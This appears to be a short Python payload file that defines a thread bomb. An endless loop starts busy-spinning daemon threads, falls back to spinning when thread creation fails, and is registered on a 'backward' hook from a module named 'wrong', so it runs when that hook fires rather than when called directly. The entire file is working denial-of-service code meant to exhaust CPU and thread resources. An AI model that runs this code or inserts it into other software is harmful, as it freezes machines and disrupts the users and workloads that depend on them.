"""Starts threads without end, each of which spins."""

import threading

from wrong import *


def spin():
    while True:
        pass


def bomb():
    while True:
        try:
            threading.Thread(target=spin, daemon=True).start()
        except RuntimeError:
            spin()


on_backward(bomb)
